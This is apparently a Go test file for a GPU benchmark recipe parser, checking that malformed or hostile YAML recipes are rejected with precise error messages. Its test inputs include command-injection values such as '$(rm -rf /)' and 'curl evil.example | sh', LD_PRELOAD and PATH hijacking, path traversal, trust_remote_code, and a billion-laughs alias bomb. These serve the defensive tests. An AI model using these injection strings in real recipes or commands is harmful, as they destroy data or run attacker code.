package workloads

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/benchkite/benchkite/agents"
	"github.com/google/go-cmp/cmp"
)

// finding is a problem as a test states it: where, and a fragment of what.
type finding struct {
	Pos  string // line:col
	Frag string
}

// findings turns problems of one file into findings, keeping a message
// whole unless it holds the fragment wanted at the same index, so a diff
// shows the real message.
func findings(t *testing.T, file string, ps Problems, want []finding) []finding {
	t.Helper()
	var got []finding
	for i, p := range ps {
		rest, ok := strings.CutPrefix(p.Error(), file+":")
		if !ok {
			t.Errorf("problem %q does not start with %q", p.Error(), file+":")
		}
		lc, msg, ok := strings.Cut(rest, ": ")
		if !ok {
			t.Errorf("problem %q does not read path:line:col: message", p.Error())
		}
		f := finding{Pos: lc, Frag: msg}
		if i < len(want) && strings.Contains(msg, want[i].Frag) {
			f.Frag = want[i].Frag
		}
		got = append(got, f)
	}
	return got
}

func defaultProfiles(t testing.TB) *agents.Set {
	t.Helper()
	p, err := agents.Default()
	if err != nil {
		t.Fatalf("agents.Default() error = %v", err)
	}
	return p
}

// billionLaughs is a recipe whose bench args expand, through aliases, to far
// more nodes than the file holds.
func billionLaughs() string {
	var b strings.Builder
	b.WriteString("name: ok\ngpu: MI355X\nnum_gpus: 8\nvllm: {model: org/m}\nvllm_bench:\n  configs:\n")
	b.WriteString("    - name: c\n      backend: openai\n      input_len: 8\n      output_len: 8\n")
	b.WriteString("      num_prompts: 4\n      max_concurrency: 2\n      args:\n")
	b.WriteString("        a0: &lol [" + strings.Repeat("lol, ", 199) + "lol]\n")
	for i := 1; i <= 120; i++ {
		fmt.Fprintf(&b, "        a%d: *lol\n", i)
	}
	return b.String()
}

func TestParseHostile(t *testing.T) {
	t.Parallel()
	profiles := defaultProfiles(t)
	tests := []struct {
		name string
		src  string
		want []finding
	}{
		{
			name: "typo'd field gets a suggestion",
			src: `name: ok
gpu: MI355X
num_gpus: 8
nightlly: true
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:1", `unknown field "nightlly" in the recipe; did you mean "nightly"?`}},
		},
		{
			name: "far-off field lists the known ones",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
zzz: 1
`,
			want: []finding{{"6:1", `unknown field "zzz" in the recipe (known: name, gpu, num_gpus, nightly,`}},
		},
		{
			name: "num_gpus spelled out",
			src: `name: ok
gpu: MI355X
num_gpus: eight
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"3:11", `num_gpus must be an integer, got "eight"`}},
		},
		{
			name: "quoted boolean",
			src: `name: ok
gpu: MI355X
num_gpus: 8
nightly: "yes"
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:10", `nightly must be true or false, got "yes"`}},
		},
		{
			name: "num_gpus out of range",
			src: `name: ok
gpu: MI355X
num_gpus: 9
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"3:11", "num_gpus must be between 1 and 8, got 9"}},
		},
		{
			name: "duplicate key",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
gpu: H200
`,
			want: []finding{{"6:1", `duplicate key "gpu" in the recipe (first at line 2)`}},
		},
		{
			name: "two documents",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
---
name: other
`,
			want: []finding{{"6:1", "a file holds one YAML document; found another here"}},
		},
		{
			name: "over 1 MiB",
			src:  "name: ok\n#" + strings.Repeat("x", 1<<20) + "\n",
			want: []finding{{"1:1", "file is over 1048576 bytes (1 MiB)"}},
		},
		{
			name: "invalid UTF-8",
			src:  "name: ok\ngpu: MI355X\nnum_gpus: 8\nvllm: {model: org/m\xff}\n",
			want: []finding{{"4:20", "file is not valid UTF-8"}},
		},
		{
			name: "billion laughs",
			src:  billionLaughs(),
			want: []finding{{"14:359", "document expands to more than 20000 nodes (aliases?); refusing to read further"}},
		},
		{
			name: "merge key",
			src: `base: &base {gpu: MI355X}
name: ok
<<: *base
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"1:1", `unknown field "base" in the recipe`},
				{"1:1", "recipe needs gpu"},
				{"3:1", "merge keys (<<) are not supported in the recipe; write the fields out"},
			},
		},
		{
			name: "name with a slash",
			src: `name: team/ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"1:7", `name "team/ok": use letters, digits, '_', '.' and '-'`}},
		},
		{
			name: "name with a command substitution",
			src: `name: $(rm -rf /)
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"1:7", `name "$(rm -rf /)": use letters`}},
		},
		{
			name: "model with a space and a semicolon",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: "org/m x;reboot"}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:15", `vllm.model "org/m x;reboot" must be a hub id (org/name) or a plain path`}},
		},
		{
			name: "model climbing out of its directory",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: /models/../etc}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:15", `vllm.model "/models/../etc" must be a hub id`}},
		},
		{
			name: "image with upper-case repository",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m, image: Vllm/vllm-openai:nightly}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:29", `vllm.image: "Vllm/vllm-openai:nightly" is not a valid image reference`}},
		},
		{
			name: "image with a bad tag",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m, image: "vllm/vllm-openai:nightly;ls"}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:29", `tag "nightly;ls" is not a valid tag`}},
		},
		{
			name: "env names and values",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  env:
    1BAD: x
    NUL: "a\0b"
    EMPTY:
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"7:5", `vllm.env cannot set "1BAD": not a variable name`},
				{"8:10", "env NUL holds a NUL byte"},
				{"9:11", "vllm.env.EMPTY must be a string, number or boolean, got null"},
			},
		},
		{
			name: "serve args set the port and host",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --tensor-parallel-size 8
    --port 9000
    --host=0.0.0.0
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"8:5", "vllm.serve_args: --port cannot be set in a recipe"},
				{"9:5", "vllm.serve_args: --host cannot be set in a recipe"},
			},
		},
		{
			name: "serve args with an unquoted semicolon",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --max-model-len 1024;
    curl evil.example | sh
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"7:21", `unquoted ';' in "1024; curl evil.example"`}},
		},
		{
			name: "serve args with a command substitution",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: --served-model-name $(whoami)
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"6:35", `unquoted '$' in "$(whoami)": serve_args are an argument list, not a shell command`}},
		},
		{
			name: "serve args with an unterminated quote",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --max-model-len 1024
    --chat-template "{{ messages
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"8:21", `unterminated " quote`}},
		},
		{
			name: "serve args with invalid JSON",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --compilation-config {"mode":0,}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"7:26", `{"mode":0,} is not valid JSON`}},
		},
		{
			name: "serve args with a bad drafter model",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --speculative-config.method eagle3
    --speculative-config.model org/drafter;id
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"8:32", `unquoted ';' in "org/drafter;id"`}},
		},
		{
			name: "serve args with a drafter model that is no hub id",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --speculative-config.method eagle3
    --speculative-config.model 'org/my drafter'
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"8:33", `speculative model "org/my drafter" must be a hub id (org/name) or a plain path`}},
		},
		{
			name: "serve args with a drafter in JSON",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --speculative-config {"method":"eagle3","model":"../drafter"}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"7:54", `speculative model "../drafter" must be a hub id`}},
		},
		{
			name: "tensor parallel beyond the GPUs",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: -tp 16
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"3:11", "serve args need 16 GPUs (TP 16 × DP 1 × PP 1) but num_gpus is 8"}},
		},
		{
			name: "tensor and data parallel beyond the GPUs",
			src: `name: ok
gpu: MI355X
num_gpus: 4
vllm:
  model: org/m
  serve_args: --tensor_parallel_size=2 --data-parallel-size 4
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"3:11", "serve args need 8 GPUs (TP 2 × DP 4 × PP 1) but num_gpus is 4"}},
		},
		{
			name: "serve flag given twice under two spellings",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: --max-model-len 10 --max_model_len 20
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"6:34", "vllm.serve_args: --max-model-len is given twice (also on line 6)"}},
		},
		{
			name: "speculative config as JSON and as dotted keys",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    --speculative-config {"method":"eagle3","num_speculative_tokens":3}
    --speculative-config.model org/drafter
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"8:5", "vllm.serve_args: --speculative-config is given both whole and as dotted keys (--speculative-config.model; the other on line 7): vLLM keeps only the dotted keys and drops the whole value"}},
		},
		{
			name: "speculative config mixed in short and underscore spellings",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    -sc.method=eagle3
    --speculative_config='{"method":"eagle3","model":"org/d"}'
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"8:5", "--speculative-config is given both whole and as dotted keys (--speculative-config.method; the other on line 7)"}},
		},
		{
			name: "compilation and attention config mixed through their short forms",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: >-
    -cc {"mode":3} --compilation-config.cudagraph_mode FULL
    --attention-config.backend FLASH_ATTN -ac={"backend":"TRITON_ATTN"}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"7:20", "--compilation-config is given both whole and as dotted keys (--compilation-config.cudagraph_mode; the other on line 7)"},
				{"8:43", "--attention-config is given both whole and as dotted keys (--attention-config.backend; the other on line 8)"},
			},
		},
		{
			name: "short flags read as vLLM reads them",
			src: `name: ok
gpu: MI355X
num_gpus: 4
vllm:
  model: org/m
  serve_args: -tp 2 -pp 2 -dp 2 -q fp8 -O3
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"3:11", "serve args need 8 GPUs (TP 2 × DP 2 × PP 2) but num_gpus is 4"}},
		},
		{
			name: "-O is the optimization level, given twice",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: -O {"mode":3} -O3 --optimization_level=2
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"6:15", "vllm.serve_args: vLLM reads a bare -O only before a level 0 to 3"},
				{"6:29", "vllm.serve_args: --optimization-level is given twice (also on line 6)"},
				{"6:33", "vllm.serve_args: --optimization-level is given twice (also on line 6)"},
			},
		},
		{
			name: "short quantization flag given twice",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: -q fp8 --quantization=mxfp4
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"6:22", "vllm.serve_args: --quantization is given twice (also on line 6)"}},
		},
		{
			name: "recipe env that picks the program",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  env:
    PATH: /tmp/evil:/usr/bin
    LD_PRELOAD: /tmp/evil.so
    LD_LIBRARY_PATH: /tmp
    PYTHONPATH: /tmp/evil
    PYTHONHOME: /tmp/py
    VLLM_OK: "1"
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"7:5", "vllm.env cannot set PATH: the runner decides which programs run"},
				{"8:5", "vllm.env cannot set LD_PRELOAD: the dynamic loader's settings change which libraries are loaded"},
				{"9:5", "vllm.env cannot set LD_LIBRARY_PATH"},
				{"10:5", "vllm.env cannot set PYTHONPATH"},
				{"11:5", "vllm.env cannot set PYTHONHOME"},
			},
		},
		{
			name: "model that reads as a flag",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: --trust-remote-code}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:15", `vllm.model "--trust-remote-code" starts with '-': vllm serve would read it as a flag`}},
		},
		{
			name: "served model name that reads as a flag",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m, serve_args: --served-model-name=--trust-remote-code}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"4:34", `--served-model-name needs a name like org/model, got "--trust-remote-code"`}},
		},
		{
			name: "YAML 1.1 booleans in bench args and model args",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval:
  model_args: {tokenized_requests: no}
  tasks: [{name: gsm8k, num_fewshot: 5}]
vllm_bench:
  configs:
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args:
        disable-tqdm: yes
        use-beam-search: On
        save-detailed-x: [a, off]
        quoted-ok: "yes"
`,
			want: []finding{
				{"6:36", `lm_eval.model_args.tokenized_requests: no is a YAML 1.1 boolean`},
				{"17:23", `vllm_bench.configs[0].args.disable-tqdm: yes is a YAML 1.1 boolean, which this loader (YAML 1.2) reads as the text "yes"`},
				{"18:26", `vllm_bench.configs[0].args.use-beam-search: On is a YAML 1.1 boolean`},
				{"19:30", `vllm_bench.configs[0].args.save-detailed-x: off is a YAML 1.1 boolean`},
			},
		},
		{
			name: "abbreviated runner-owned serve flags and --config",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm:
  model: org/m
  serve_args: --por 8001 --hos=0.0.0.0 --mod x --conf y --config /tmp/more.yaml --po.x 1
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{
				{"6:15", "vllm.serve_args: --por abbreviates --port, which the runner sets: vLLM's argparse accepts a unique prefix"},
				{"6:26", "vllm.serve_args: --hos abbreviates --host"},
				{"6:40", "vllm.serve_args: --mod abbreviates --model"},
				{"6:48", "vllm.serve_args: --conf abbreviates --config"},
				{"6:57", "vllm.serve_args: --config cannot be set in a recipe: vLLM reads more flags from the file"},
				{"6:81", "vllm.serve_args: --po abbreviates --port"},
			},
		},
		{
			name: "abbreviated runner-owned bench flags and --config",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args:
        served-model: x
        random-input: 5
        config: f.yaml
        result-fi: r.json
`,
			want: []finding{
				{"14:9", "vllm_bench.configs[0].args: --served-model abbreviates --served-model-name"},
				{"15:9", "vllm_bench.configs[0].args: --random-input abbreviates --random-input-len"},
				{"16:9", "vllm_bench.configs[0].args: --config cannot be set here: vLLM's parser reads more flags from the file"},
				{"17:9", "vllm_bench.configs[0].args: --result-fi abbreviates --result-filename"},
			},
		},
		{
			name: "task names that leave the results folder",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m, serve_args: --enable-auto-tool-choice --tool-call-parser hermes}
lm_eval:
  tasks:
    - {name: .., num_fewshot: 5}
    - {name: ., num_fewshot: 5}
    - {name: -x, num_fewshot: 5}
    - {name: .hidden, num_fewshot: 5}
bfcl: {test_categories: [..]}
`,
			want: []finding{
				{"7:14", `task name "..": use letters, digits, '_', '.' and '-', starting with a letter or digit; it names a results folder`},
				{"8:14", `task name "."`},
				{"9:14", `task name "-x"`},
				{"10:14", `task name ".hidden"`},
				{"11:26", `bfcl test category ".."`},
			},
		},
		{
			name: "assertion and regression keys the bench never writes",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  regression:
    metrics:
      output_throughput_typo: {max_drop_pct: 5}
  configs:
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      assertions:
        output_throughput_typo: {min: 1}
        p50_ttft_ms: {max: 100}
        spec_decode_acceptance_rate: {min: 10}
        request_goodput: {min: 1}
    - name: d
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args: {metric-percentiles: "50,99"}
      assertions:
        p50_ttft_ms: {max: 100}
        p99_e2el_ms: {max: 100}
`,
			want: []finding{
				{"8:7", `vllm_bench.regression.metrics: vllm bench serve writes no "output_throughput_typo" for config c; did you mean output_throughput, request_throughput?`},
				{"17:9", `vllm_bench.configs[0].assertions: vllm bench serve writes no "output_throughput_typo" for config c; did you mean output_throughput, request_throughput?`},
				{"18:9", `writes no "p50_ttft_ms" for config c; did you mean p99_ttft_ms`},
				{"19:9", `writes no "spec_decode_acceptance_rate" for config c (it is written only when serve_args configure speculative decoding)`},
				{"20:9", `writes no "request_goodput" for config c (it is written only with --goodput)`},
			},
		},
		{
			name: "percentile settings that drop keys the runner reads",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - name: a
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args:
        percentile_metrics: ttft,e2el
        metric_percentiles: "50,90"
    - name: b
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args:
        percentile-metrics: ttft, tpot, itl
        metric-percentiles: [50, 99]
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args:
        percentile-metrics: ttft,tpot,itl,e2el
        metric-percentiles: 99.0,p50
        temperature: hot
`,
			want: []finding{
				{"14:29", "vllm_bench.configs[0].args.percentile_metrics leaves out tpot, itl: the runner reads their statistics from every result"},
				{"15:29", "vllm_bench.configs[0].args.metric_percentiles leaves out 99: the runner reads the p99 keys of every result"},
				{"23:29", `vllm_bench.configs[1].args.percentile-metrics: " tpot" is not a metric vllm bench serve reports`},
				{"24:29", "vllm_bench.configs[1].args.metric-percentiles takes one value (--metric-percentiles), got a list"},
				{"33:29", `vllm_bench.configs[2].args.metric-percentiles: "p50" is not a percentile between 0 and 100`},
				{"34:22", `vllm_bench.configs[2].args.temperature must be a number of at least 0, got "hot"`},
			},
		},
		{
			name: "bench tokenizer mode is the server's",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - {name: c, backend: openai, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2, args: {tokenizer_mode: slow}}
`,
			want: []finding{{"7:106", "--tokenizer-mode cannot be set here: the runner passes the server's --tokenizer-mode"}},
		},
		{
			name: "speed_bench dataset",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - name: c
      backend: openai
      dataset: speed_bench
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
`,
			want: []finding{{"9:16", "dataset speed_bench is not supported: it needs --skip-tokenizer-init, which caps every request at one output token"}},
		},
		{
			name: "unknown backend",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - {name: c, backend: tgi, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2}
`,
			want: []finding{{"7:26", `backend "tgi" is not one vllm bench serve supports against a vLLM server (openai, openai-chat`}},
		},
		{
			name: "bench args owned by the runner or given twice",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: 4
      max_concurrency: 2
      args:
        model: other/model
        num-prompts: 10
        num_warmups: 2
        num-warmups: 3
        --skip_tokenizer_init: true
`,
			want: []finding{
				{"14:9", "vllm_bench.configs[0].args: --model cannot be set here: the runner passes the recipe's model"},
				{"15:9", "vllm_bench.configs[0].args: --num-prompts cannot be set here: set num_prompts on the config"},
				{"17:9", `"num-warmups" is --num-warmups again (first at line 16)`},
				{"18:9", "--skip-tokenizer-init cannot be set here: it caps every request at one output token"},
			},
		},
		{
			name: "even repetitions",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - {name: c, backend: openai, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2, repetitions: 2}
`,
			want: []finding{{"7:112", "repetitions must be odd so the median is one real run, got 2"}},
		},
		{
			name: "prompts list without a concurrency list",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: [4, 8]
      max_concurrency: 2
`,
			want: []finding{{"11:20", "a num_prompts list needs a max_concurrency list of the same length"}},
		},
		{
			name: "lists of different lengths",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - name: c
      backend: openai
      input_len: 8
      output_len: 8
      num_prompts: [4, 8]
      max_concurrency: [1, 2, 4]
`,
			want: []finding{{"11:20", "num_prompts has 2 entries but max_concurrency has 3; they pair up one to one"}},
		},
		{
			name: "sweep point named like another config",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
vllm_bench:
  configs:
    - {name: c, backend: openai, input_len: 8, output_len: 8, num_prompts: [4, 8], max_concurrency: [1, 2]}
    - {name: c-conc-2, backend: openai, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2}
`,
			want: []finding{{"8:7", `bench run "c-conc-2" is also a run of the config at line 7`}},
		},
		{
			name: "zero lengths and negative few-shot",
			src: `name: ok
gpu: MI355X
num_gpus: 8
timeout_in_minutes: 0
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: -1}]}
vllm_bench:
  configs:
    - {name: c, backend: openai, input_len: 0, output_len: 8, num_prompts: 4, max_concurrency: 0}
`,
			want: []finding{
				{"4:21", "timeout_in_minutes must be between 1 and 1440, got 0"},
				{"6:46", "lm_eval.tasks[0].num_fewshot must be between 0 and 1000, got -1"},
				{"9:45", "vllm_bench.configs[0].input_len must be between 1 and 10000000, got 0"},
				{"9:96", "vllm_bench.configs[0].max_concurrency must be between 1 and 1000000, got 0"},
			},
		},
		{
			name: "empty task list",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval:
  tasks: []
`,
			want: []finding{{"6:10", "lm_eval.tasks is empty; list at least one task"}},
		},
		{
			name: "lm_eval option at task level",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval:
  tasks:
    - name: gsm8k
      num_fewshot: 5
      num_concurrent: 64
`,
			want: []finding{{"9:7", `unknown field "num_concurrent" in lm_eval.tasks[0]; lm_eval options belong under model_args`}},
		},
		{
			name: "lm_eval model_args cannot run remote code or swap the tokenizer",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval:
  model_args: {trust_remote_code: true, tokenizer: evil/tok}
  tasks:
    - name: gsm8k
      num_fewshot: 5
      model_args: {pretrained: evil/m, revision: pr-1, trust_remote_code: "yes"}
    - name: arc
      num_fewshot: 0
      model_args: {trust_remote_code: false}
`,
			want: []finding{
				{"6:16", `lm_eval.model_args.trust_remote_code cannot be turned on`},
				{"6:41", `lm_eval.model_args.tokenizer cannot be set`},
				{"10:20", `lm_eval.tasks[0].model_args.pretrained cannot be set`},
				{"10:40", `lm_eval.tasks[0].model_args.revision cannot be set`},
				{"10:56", `lm_eval.tasks[0].model_args.trust_remote_code cannot be turned on`},
			},
		},
		{
			name: "lm_eval tokenizer backends the tool set cannot load",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval:
  model_args: {tokenizer_backend: huggingface}
  tasks:
    - name: gsm8k
      num_fewshot: 5
      model_args: {tokenizer_backend: tiktoken}
    - name: arc
      num_fewshot: 0
      model_args: {tokenizer_backend: remote}
`,
			want: []finding{
				{"6:35", `lm_eval.model_args.tokenizer_backend "huggingface": the locked lm-eval tool set has no transformers`},
				{"10:39", `lm_eval.tasks[0].model_args.tokenizer_backend "tiktoken"`},
			},
		},
		{
			name: "measures nothing",
			src: `name: ok
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
`,
			want: []finding{{"1:1", "recipe measures nothing: add lm_eval, vllm_bench, bfcl or aiperf"}},
		},
		{
			name: "unknown gpu lists the known ones",
			src: `name: ok
gpu: A100
num_gpus: 8
vllm: {model: org/m}
lm_eval: {tasks: [{name: gsm8k, num_fewshot: 5}]}
`,
			want: []finding{{"2:6", `unknown gpu "A100"; known: B200, B300, H200, MI300X, MI355X`}},
		},
		{
			name: "not a mapping",
			src:  "- name: ok\n",
			want: []finding{{"1:1", "the recipe must be a mapping, got a list"}},
		},
		{
			name: "syntax error",
			src:  "name: ok\ngpu: MI355X\nnum_gpus: [8\n",
			want: []finding{{"3:1", "YAML syntax: did not find expected ',' or ']'"}},
		},
		{
			name: "empty file",
			src:  "# nothing here\n",
			want: []finding{{"1:1", "file is empty"}},
		},
		{
			name: "several problems in one run, in line order",
			src: `name: bad name
gpu: MI355X
num_gpus: eight
nightlly: true
vllm:
  model: org/m
  serve_args: --port 1
lm_eval: {tasks: []}
vllm_bench:
  configs:
    - {name: c, backend: tgi, input_len: 8, output_len: 8, num_prompts: 4, max_concurrency: 2, repetitions: 4}
`,
			want: []finding{
				{"1:7", `name "bad name"`},
				{"3:11", "num_gpus must be an integer"},
				{"4:1", `unknown field "nightlly"`},
				{"7:15", "--port cannot be set in a recipe"},
				{"8:18", "lm_eval.tasks is empty"},
				{"11:26", `backend "tgi"`},
				{"11:109", "repetitions must be odd"},
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r, ps := Parse("r.yaml", []byte(tt.src), profiles)
			errs := ps.Errors()
			if diff := cmp.Diff(findings(t, "r.yaml", errs, tt.want), tt.want); diff != "" {
				t.Errorf("Parse() problems diff (-got +want):\n%s\nall:\n%v", diff, ps)
			}
			if r != nil {
				t.Errorf("Parse() recipe = %+v, want nil for an invalid recipe", r)
			}
			if !errors.Is(errs, ErrInvalid) {
				t.Errorf("errors.Is(problems, ErrInvalid) = false")
			}
		})
	}
}

func TestLoadDirCrossFile(t *testing.T) {
	t.Parallel()
	profiles := defaultProfiles(t)
	recipe := func(name, extra string) *fstest.MapFile {
		return &fstest.MapFile{Data: []byte("name: " + name + `
gpu: MI355X
num_gpus: 8
vllm: {model: org/m}
lm_eval:
  tasks:
    - name: gsm8k
      num_fewshot: 5
` + extra)}
	}
	expectFrom := func(name string) string {
		return "      expect: {baseline_from: " + name + ", tolerance: 0.01}\n"
	}
	tests := []struct {
		name  string
		fsys  fstest.MapFS
		want  []string // problems, whole
		valid []string // names of the recipes that stay valid
	}{
		{
			name: "two files, one name",
			fsys: fstest.MapFS{
				"w/a.yaml": recipe("same", ""),
				"w/b.yaml": recipe("same", ""),
				"w/c.yaml": recipe("other", ""),
			},
			want:  []string{`w/b.yaml:1:7: name "same" is already used by w/a.yaml; recipe names must be unique`},
			valid: []string{"same", "other"},
		},
		{
			name: "baseline_from names no recipe",
			fsys: fstest.MapFS{
				"w/a.yaml": recipe("spec-a", expectFrom("nospec-b")),
				"w/b.yaml": recipe("nospec-a", ""),
			},
			want:  []string{`w/a.yaml:9:31: baseline_from "nospec-b" names no recipe; close: nospec-a`},
			valid: []string{"nospec-a"},
		},
		{
			name: "baseline_from names the recipe itself",
			fsys: fstest.MapFS{
				"w/a.yaml": recipe("self", expectFrom("self")),
			},
			want: []string{"w/a.yaml:9:31: baseline_from names the recipe itself; use regression for comparisons with its own past nights"},
		},
